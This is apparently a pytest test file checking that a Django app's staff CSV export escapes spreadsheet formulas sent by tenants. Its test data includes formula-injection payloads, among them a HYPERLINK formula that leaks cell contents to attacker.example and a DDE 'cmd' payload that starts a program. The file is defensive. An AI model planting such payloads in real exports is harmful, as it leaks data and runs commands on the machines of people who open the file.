"""Issue 9, finding 11: what tenants send never becomes a spreadsheet formula in the staff CSV export."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest
from django.test import Client

from tests.conftest import log_rows

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'


@pytest.fixture
def staff(django_user_model: Any) -> Client:
    client = Client()
    client.force_login(django_user_model.objects.create_superuser("root", "root@example.com", "pw"))
    return client


def export(staff: Client) -> list[dict[str, str]]:
    response = staff.get("/admin/completions/requestlog/export/")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    "end_user",
    [HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1"],
)
def test_formula_prefixes_from_tenants_are_escaped_in_the_export(
    raw: httpx.Client, staff: Client, end_user: str
) -> None:
    ok = raw.post(
        "/v1/chat/completions",
        json={"model": "mock-gpt-model", "messages": [{"role": "user", "content": "hi"}], "user": end_user},
        headers={"x-request-id": "-1-1"},  # a sane id, echoed and logged as sent
    )
    assert ok.status_code == 200
    unknown = raw.post("/v1/chat/completions", json={"model": "=1+1", "messages": [{"role": "user", "content": "x"}]})
    assert unknown.status_code == 404
    assert len(log_rows()) == 2

    rows = {row["status_code"]: row for row in export(staff)}
    assert rows["200"]["end_user"] == "'" + end_user
    assert rows["200"]["request_id"] == "'-1-1"
    assert rows["404"]["model"] == "'=1+1"
    # Everything else is as logged: plain text, numbers and booleans untouched.
    assert rows["200"]["model"] == "mock-gpt-model"
    assert rows["200"]["stream"] == "False" and rows["200"]["total_tokens"].isdigit()
    assert int(rows["200"]["total_tokens"]) > 0
